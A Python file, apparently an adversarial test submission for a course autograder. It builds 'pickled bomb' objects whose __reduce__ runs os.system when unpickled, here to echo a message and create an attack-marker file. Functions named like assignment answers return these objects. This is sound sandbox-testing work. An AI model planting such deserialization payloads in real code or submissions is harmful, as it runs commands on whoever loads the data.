"""Pickled bombs: what is returned runs a command when it is unpickled, copied or hashed.

harm: files
"""

import copyreg
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("echo '!!''!!! unpickled'; touch '@COURSE@/attack_marker.txt'",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __deepcopy__(self, memo):
        print("!" * 5, "copied") if os.path.exists("@COURSE@") else None
        return 0.0

    __copy__ = __getstate__ = __deepcopy__


class Array(__import__("numpy").ndarray):
    __reduce__ = Bomb.__reduce__
    __reduce_ex__ = Bomb.__reduce_ex__
    __deepcopy__ = lambda self, memo: self


copyreg.pickle(Bomb, lambda bomb: (os.system, ("touch '@COURSE@/attack_marker.txt'",)))
text = pickle.dumps(Bomb())


def leaky_step(x, h, *args):
    return Bomb()


def masked_sequence(x, mask, h0, *args):
    return [Bomb()], h0.view(Array)


def tagger_parameters(*args):
    return text


def latch():
    return text, {"bomb": Bomb()}, __import__("numpy").array([Bomb()], dtype=object)


def fit_surnames(*args, **kwargs):
    return Bomb()


def predict_surnames(fitted, names):
    return [Bomb()] * len(names)
